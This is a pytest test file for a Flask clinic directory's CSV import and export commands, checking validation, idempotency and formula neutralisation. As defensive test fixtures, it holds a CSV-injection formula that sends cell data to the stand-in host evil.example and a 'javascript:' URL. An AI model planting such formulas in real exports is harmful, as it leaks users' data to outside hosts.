"""`flask clinics import / export / seed`: idempotent, all-or-nothing, with line numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskCliRunner
from sqlalchemy import func, select

from clinicfinder.core.directory.columns import COLUMNS
from clinicfinder.db.models import AuditEntry, Clinic, TreatmentOffer
from clinicfinder.extensions import db
from tests.support.paths import CLINICS_CSV


def read_rows(path: Path = CLINICS_CSV) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def write_rows(path: Path, rows: list[dict[str, str]], fieldnames: list[str] | tuple[str, ...] = COLUMNS) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=fieldnames, lineterminator="\n", extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def clinic_count(app: Flask) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Clinic)) or 0


def export_text(runner: FlaskCliRunner, tmp_path: Path) -> str:
    target = tmp_path / "export.csv"
    result = runner.invoke(args=["clinics", "export", str(target)])
    assert result.exit_code == 0, result.output
    return target.read_text(encoding="utf-8")


def test_import_then_export_gives_back_clinics_csv_byte_for_byte(app: Flask, runner: FlaskCliRunner, tmp_path) -> None:
    result = runner.invoke(args=["clinics", "import", str(CLINICS_CSV)])
    assert result.exit_code == 0, result.output
    total = len(read_rows())
    assert f"{total} added, 0 changed, 0 unchanged" in result.output
    assert clinic_count(app) == total
    assert export_text(runner, tmp_path) == CLINICS_CSV.read_text(encoding="utf-8")


def test_reimporting_the_same_file_changes_nothing(seeded_app: Flask, tmp_path) -> None:
    runner = seeded_app.test_cli_runner()
    before = export_text(runner, tmp_path)
    with seeded_app.app_context():
        audit_before = db.session.scalar(select(func.count()).select_from(AuditEntry))
        versions_before = dict(db.session.execute(select(Clinic.id, Clinic.version)).all())
    result = runner.invoke(args=["clinics", "import", str(CLINICS_CSV)])
    assert result.exit_code == 0, result.output
    assert f"0 added, 0 changed, {len(read_rows())} unchanged" in result.output
    assert export_text(runner, tmp_path) == before
    with seeded_app.app_context():
        assert db.session.scalar(select(func.count()).select_from(AuditEntry)) == audit_before
        assert dict(db.session.execute(select(Clinic.id, Clinic.version)).all()) == versions_before


def test_a_changed_price_is_updated_audited_and_bumps_the_version(seeded_app: Flask, tmp_path) -> None:
    rows = read_rows()[:3]
    rows[1] |= {
        "icsi_offered": "yes",
        "icsi_price": "2500",
        "icsi_currency": "usd",
        "icsi_source": "Clinic price list",
        "icsi_as_of": "2026-10-01",
    }
    clinic_id = rows[1]["clinic_id"]
    runner = seeded_app.test_cli_runner()
    result = runner.invoke(args=["clinics", "import", str(write_rows(tmp_path / "edit.csv", rows))])
    assert result.exit_code == 0, result.output
    assert "0 added, 1 changed, 2 unchanged" in result.output
    assert f"changed {clinic_id}: icsi_offered, icsi_price, icsi_currency, icsi_source, icsi_as_of" in result.output
    with seeded_app.app_context():
        offer = db.session.scalars(
            select(TreatmentOffer).where(TreatmentOffer.clinic_id == clinic_id, TreatmentOffer.treatment == "icsi")
        ).one()
        assert (str(offer.price), offer.currency, offer.source) == ("2500.00", "USD", "Clinic price list")
        assert db.session.get_one(Clinic, clinic_id).version == 2
        audit = db.session.scalars(
            select(AuditEntry).where(AuditEntry.clinic_id == clinic_id, AuditEntry.field == "icsi_price")
        ).one()
        assert (audit.actor_label, audit.old_value, audit.new_value) == ("cli", "", "2500.00")


def test_dry_run_shows_what_would_change_and_writes_nothing(app: Flask, runner: FlaskCliRunner) -> None:
    result = runner.invoke(args=["clinics", "import", "--dry-run", str(CLINICS_CSV)])
    assert result.exit_code == 0, result.output
    assert f"{len(read_rows())} added, 0 changed, 0 unchanged (dry run: nothing would be written)" in result.output
    assert clinic_count(app) == 0


def test_seed_fills_an_empty_directory_and_leaves_a_full_one_alone(app: Flask, runner: FlaskCliRunner) -> None:
    assert runner.invoke(args=["clinics", "seed"]).exit_code == 0
    assert clinic_count(app) == len(read_rows())
    again = runner.invoke(args=["clinics", "seed"])
    assert "already has clinics; not seeding" in again.output


def edit(line: int, column: str, value: str) -> dict[str, object]:
    """Change one cell of the sample file; data line N is file line N + 1 (after the header)."""
    return {"line": line, "column": column, "value": value}


BAD_CELLS = [
    pytest.param(edit(3, "latitude", "91.5"), "line 4, latitude: must be between -90 and 90, got 91.5", id="latitude"),
    pytest.param(edit(2, "latitude", "north"), "line 3, latitude: must be a decimal number, got 'north'", id="nan"),
    pytest.param(edit(1, "clinic_id", "US CDC 1"), "line 2, clinic_id: must be 2–64 lowercase", id="clinic-id"),
    pytest.param(edit(4, "name", ""), "line 5, name: is required", id="no-name"),
    pytest.param(edit(2, "status", "maybe"), "line 3, status: must be one of open, reorganized", id="status"),
    pytest.param(edit(3, "country", "USA"), "line 4, country: is longer than 2 characters", id="country"),
    pytest.param(edit(2, "total_cycles", "many"), "line 3, total_cycles: must be a whole number", id="count"),
    pytest.param(edit(2, "ivf_price", "9000"), "line 3, ivf_currency: is required when a price is given", id="price"),
    pytest.param(edit(2, "ivf_currency", "JPY"), "line 3, ivf_currency: must be one of USD, EUR, GBP", id="currency"),
    pytest.param(edit(2, "outcomes_source", ""), "line 3, outcomes_source: is required when the group has facts", id="source"),
    pytest.param(edit(2, "outcomes_as_of", "2999-01-01"), "line 3, outcomes_as_of: is in the future", id="future"),
    pytest.param(edit(2, "listing_as_of", "31/12/2022"), "line 3, listing_as_of: must be a date as YYYY-MM-DD", id="date"),
    pytest.param(edit(2, "website", "javascript:alert(1)"), "line 3, website: must start with https://", id="website"),
    pytest.param(edit(2, "languages", "en;spanish"), "line 3, languages: 'spanish' is not a two-letter", id="language"),
    pytest.param(edit(2, "sart_member", "sometimes"), "line 3, sart_member: must be one of yes, no, pending", id="yes-no"),
    pytest.param(edit(2, "name", "Fertility\x00 Center"),
                 "line 3, name: character 10 is an invisible control character (U+0000)", id="nul"),
    pytest.param(edit(3, "city", "Chicago\x7f"),
                 "line 4, city: character 8 is an invisible control character (U+007F)", id="del"),
    pytest.param(edit(2, "address", "1 Main\x85St"),
                 "line 3, address: character 7 is an invisible control character (U+0085)", id="c1-next-line"),
    pytest.param(edit(2, "phone", "555\x1b[31m"),
                 "line 3, phone: character 4 is an invisible control character (U+001B)", id="escape"),
    pytest.param(edit(2, "name", "Two\nlines"),
                 "line 3, name: character 4 is an invisible control character (U+000A)", id="newline-in-name"),
    pytest.param(edit(2, "description", "First line.\nSecond\x7f line."),  # line 3, and the cell's second line
                 "line 4, description: character 19 is an invisible control character (U+007F)", id="del-in-text"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "message"), BAD_CELLS)
def test_a_bad_cell_rejects_the_whole_file_naming_line_and_column(
    seeded_app: Flask, tmp_path, change: dict[str, object], message: str
) -> None:
    rows = read_rows()[:5]
    for row in rows:  # valid edits that would apply if the file were accepted
        row["phone"] = "(555) 000-0000"
    rows[int(str(change["line"])) - 1][str(change["column"])] = str(change["value"])
    runner = seeded_app.test_cli_runner()
    before = export_text(runner, tmp_path)
    result = runner.invoke(args=["clinics", "import", str(write_rows(tmp_path / "bad.csv", rows))])
    assert result.exit_code == 1
    assert message in result.output
    assert "problem(s); nothing was changed" in result.output
    assert export_text(runner, tmp_path) == before


def raw_file(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "raw.csv"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def header(columns: tuple[str, ...] | list[str] = COLUMNS) -> str:
    return ",".join(columns) + "\n"


def first_row() -> str:
    buffer = io.StringIO()
    csv.DictWriter(buffer, fieldnames=COLUMNS, lineterminator="\n").writerow(read_rows()[0])
    return buffer.getvalue()


def test_tabs_and_line_breaks_are_kept_where_a_field_allows_them(seeded_app: Flask, tmp_path) -> None:
    rows = read_rows()[:3]
    rows[1]["description"] = "We treat male-factor infertility.\n\nAsk about\tmicro-TESE."
    rows[1]["medical_director"] = "Dr\tA. Example"
    runner = seeded_app.test_cli_runner()
    result = runner.invoke(args=["clinics", "import", str(write_rows(tmp_path / "ok.csv", rows))])
    assert result.exit_code == 0, result.output
    with seeded_app.app_context():
        saved = db.session.get(Clinic, rows[1]["clinic_id"])
        assert saved is not None and saved.description == rows[1]["description"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(lambda: "", "line 1: the file is empty", id="empty"),
        pytest.param(lambda: header(COLUMNS[:-1]), "line 1: missing columns: languages_as_of", id="missing-column"),
        pytest.param(lambda: header([*COLUMNS, "notes"]), "line 1: unknown columns: notes", id="unknown-column"),
        pytest.param(lambda: header() + first_row() + first_row(), "line 3, clinic_id: us-cdc-1 is already on line 2", id="duplicate"),
        pytest.param(lambda: header() + "us-cdc-9,Only a name\n", "line 2: has 2 cells but the header has", id="short-row"),
        pytest.param(lambda: (header() + first_row()).encode() + b"\xff\xfe,broken\n", "line 3: is not valid UTF-8", id="encoding"),
        pytest.param(lambda: header() + first_row() + '"unclosed,quote\n', "line 3: cannot be read as CSV", id="quote"),
    ],
)  # fmt: skip
def test_a_malformed_file_is_rejected_with_its_line_number(
    app: Flask, runner: FlaskCliRunner, tmp_path, content, message
) -> None:
    result = runner.invoke(args=["clinics", "import", str(raw_file(tmp_path, content()))])
    assert result.exit_code == 1
    assert message in result.output
    assert clinic_count(app) == 0


def test_a_file_over_the_size_limit_is_refused(environment: dict[str, str], tmp_path) -> None:
    from tests.support.instances import migrated_app

    app = migrated_app({**environment, "MAX_IMPORT_BYTES": "2048"})
    result = app.test_cli_runner().invoke(args=["clinics", "import", str(CLINICS_CSV)])
    assert result.exit_code == 1
    assert "the limit is 2048 (MAX_IMPORT_BYTES)" in result.output
    assert clinic_count(app) == 0


def test_a_spreadsheet_saved_file_with_bom_and_crlf_is_accepted(app: Flask, runner: FlaskCliRunner, tmp_path) -> None:
    text = CLINICS_CSV.read_text(encoding="utf-8").replace("\n", "\r\n")
    result = runner.invoke(args=["clinics", "import", str(raw_file(tmp_path, b"\xef\xbb\xbf" + text.encode()))])
    assert result.exit_code == 0, result.output
    assert clinic_count(app) == len(read_rows())
    assert export_text(runner, tmp_path) == CLINICS_CSV.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("name", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("description", "@SUM(1+1)"),
        ("medical_director", "-2+3"),
        ("phone", "+1 312 555 0100"),
    ],
)
def test_export_neutralises_spreadsheet_formulas_and_imports_them_back_unchanged(
    app: Flask, runner: FlaskCliRunner, tmp_path, column: str, value: str
) -> None:
    rows = read_rows()[:2]
    rows[0][column] = value
    assert runner.invoke(args=["clinics", "import", str(write_rows(tmp_path / "in.csv", rows))]).exit_code == 0
    exported = export_text(runner, tmp_path)
    (cell,) = [row[column] for row in csv.DictReader(io.StringIO(exported)) if row["clinic_id"] == rows[0]["clinic_id"]]
    assert cell == "'" + value  # a spreadsheet shows this as text
    again = runner.invoke(args=["clinics", "import", str(tmp_path / "export.csv")])
    assert "0 added, 0 changed, 2 unchanged" in again.output
    assert export_text(runner, tmp_path) == exported


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("accreditation_bodies", "Verified", "'verified' is not a body's name"),
        ("other_society_memberships", "ESHRE;sart", "SART has its own column"),
    ],
)
def test_reserved_accreditation_names_cannot_forge_the_registers_flags(
    seeded_app: Flask, tmp_path, column: str, value: str, message: str
) -> None:
    rows = read_rows()[:1]
    rows[0][column] = value
    result = seeded_app.test_cli_runner().invoke(args=["clinics", "import", str(write_rows(tmp_path / "x.csv", rows))])
    assert result.exit_code == 1
    assert f"line 2, {column}: {message}" in result.output
